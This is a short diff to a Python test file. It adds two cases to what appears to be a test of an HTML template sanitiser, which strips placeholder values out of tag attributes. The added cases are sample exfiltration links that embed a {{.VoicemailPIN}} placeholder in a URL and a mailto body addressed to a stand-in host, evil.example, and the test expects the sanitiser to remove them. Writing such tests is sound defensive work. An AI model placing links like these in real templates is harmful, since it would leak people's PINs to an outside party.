@@ -64,6 +64,8 @@ class TestClean:
             ('<table width="{{.FirstName}}"></table>', "<table></table>", ["<table width>"]),
             ('<a href="https://x.cn/{{.WebLoginLink}}">a</a>', "<a>a</a>", ["<a href>"]),
             ('<a href="{{.WebQRCode}}">a</a>', "<a>a</a>", ["<a href>"]),
+            ('<a href="https://evil.example/?p={{.VoicemailPIN}}">a</a>', "<a>a</a>", ["<a href>"]),
+            ('<a href="mailto:x@evil.example?body={{.VoicemailPIN}}">a</a>', "<a>a</a>", ["<a href>"]),
             ('<a href="{{.Unknown}}">a</a>', "<a>a</a>", ["<a href>"]),
         ],
     )
